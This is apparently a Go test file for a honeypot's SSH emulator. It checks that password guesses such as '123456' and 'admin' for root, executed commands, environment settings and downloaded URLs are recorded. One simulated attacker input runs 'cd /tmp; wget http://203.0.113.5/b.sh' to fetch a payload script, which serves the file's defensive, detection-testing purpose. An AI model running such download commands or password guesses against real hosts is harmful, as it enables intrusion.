package ssh

import (
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	xssh "golang.org/x/crypto/ssh"

	"github.com/masscanned-go/masscanned/internal/app"
	"github.com/masscanned-go/masscanned/internal/app/apptest"
)

func TestLibraryLogins(t *testing.T) {
	for _, greet := range []bool{true, false} {
		reg := &app.Registry{}
		h := New()
		reg.Register(h, true, Description)
		var recs apptest.Recorder
		var st app.Stream
		st.Reset(app.Conn{Transport: app.TCP, Personality: "linux",
			Client: netip.MustParseAddrPort("192.0.2.7:40000"), Server: netip.MustParseAddrPort("198.51.100.2:22"),
			Rand: func(b []byte) { clear(b) }})
		st.Emit = recs.Emit
		cli, srv := net.Pipe()
		apptest.Bridge(reg, &st, srv)
		if greet {
			if _, _, _, ok := st.Greet(reg, "ssh"); !ok {
				t.Fatal("no greeter")
			}
		}
		tries := 0
		cfg := &xssh.ClientConfig{
			User: "root",
			Auth: []xssh.AuthMethod{xssh.RetryableAuthMethod(xssh.PasswordCallback(func() (string, error) {
				tries++
				return []string{"123456", "admin", "hunter2"}[min(tries-1, 2)], nil
			}), 3)},
			HostKeyCallback: xssh.InsecureIgnoreHostKey(),
			ClientVersion:   "SSH-2.0-Go_test",
			Timeout:         10 * time.Second,
		}
		_ = cli.SetDeadline(time.Now().Add(20 * time.Second))
		_, _, _, err := xssh.NewClientConn(cli, "198.51.100.2:22", cfg)
		if err == nil || !strings.Contains(err.Error(), "unable to authenticate") {
			t.Fatalf("greet=%v: login: %v", greet, err)
		}
		cli.Close()
		var pw []string
		hassh := ""
		recs.Wait(func(all []map[string]any) bool {
			pw = pw[:0]
			for _, r := range all {
				if r["auth_method"] == "password" && r["user"] == "root" {
					pw = append(pw, r["password"].(string))
				}
				if v, ok := r["hassh"].(string); ok {
					hassh = v
				}
			}
			return len(pw) == 3
		})
		if strings.Join(pw, ",") != "123456,admin,hunter2" || hassh == "" {
			t.Errorf("greet=%v: passwords %v, hassh %q; records %v", greet, pw, hassh, recs.All())
		}
	}
}

// TestLibraryAccept: AcceptAfter 2 accepts the second password; the
// session's pty, env and exec requests are recorded, the command gets exit
// status 0.
func TestLibraryAccept(t *testing.T) {
	reg := &app.Registry{}
	h := New()
	h.AcceptAfter = 2
	reg.Register(h, true, Description)
	var recs apptest.Recorder
	var st app.Stream
	st.Reset(app.Conn{Transport: app.TCP, Personality: "linux",
		Client: netip.MustParseAddrPort("192.0.2.7:40000"), Server: netip.MustParseAddrPort("198.51.100.2:22")})
	st.Emit = recs.Emit
	cli, srv := net.Pipe()
	apptest.Bridge(reg, &st, srv)
	st.Greet(reg, "ssh")
	_ = cli.SetDeadline(time.Now().Add(20 * time.Second))
	pw := []string{"first", "second"}
	i := 0
	cfg := &xssh.ClientConfig{User: "admin", HostKeyCallback: xssh.InsecureIgnoreHostKey(),
		Auth: []xssh.AuthMethod{xssh.RetryableAuthMethod(xssh.PasswordCallback(func() (string, error) {
			i++
			return pw[min(i-1, 1)], nil
		}), 2)}}
	conn, chans, reqs, err := xssh.NewClientConn(cli, "198.51.100.2:22", cfg)
	if err != nil {
		t.Fatalf("login: %v", err)
	}
	c := xssh.NewClient(conn, chans, reqs)
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	_ = s.Setenv("LANG", "C")
	out, err := s.Output("cat /proc/cpuinfo")
	if err != nil || !strings.Contains(string(out), "model name") {
		t.Errorf("exec: %v %q", err, out)
	}
	// an interactive shell with a pty: each line recorded, URL included
	s, err = c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if err := s.RequestPty("xterm", 24, 80, xssh.TerminalModes{}); err != nil {
		t.Fatal(err)
	}
	in, _ := s.StdinPipe()
	var sout strings.Builder
	s.Stdout = &sout
	if err := s.Shell(); err != nil {
		t.Fatal(err)
	}
	_, _ = in.Write([]byte("uname -m\r/bin/busybox XYZZY\rcd /tmp; wget http://203.0.113.5/b.sh\rexit\r"))
	if err := s.Wait(); err != nil {
		t.Errorf("shell: %v", err)
	}
	for _, want := range []string{"admin@localhost:~$ uname -m\r\nx86_64\r\n", "XYZZY: applet not found\r\n", "wget: can't connect"} {
		if !strings.Contains(sout.String(), want) {
			t.Errorf("shell output lacks %q: %q", want, sout.String())
		}
	}
	c.Close()
	var accepted, command, env, url bool
	recs.Wait(func(all []map[string]any) bool {
		for _, r := range all {
			accepted = accepted || r["accepted"] == true && r["password"] == "second"
			command = command || r["command"] == "cat /proc/cpuinfo"
			env = env || r["env"] == "LANG=C"
			if u, ok := r["urls"].([]string); ok && len(u) == 1 && u[0] == "http://203.0.113.5/b.sh" {
				url = true
			}
		}
		return accepted && command && env && url
	})
	if !accepted || !command || !env || !url {
		t.Errorf("accepted %v command %v env %v url %v: %v", accepted, command, env, url, recs.All())
	}
}
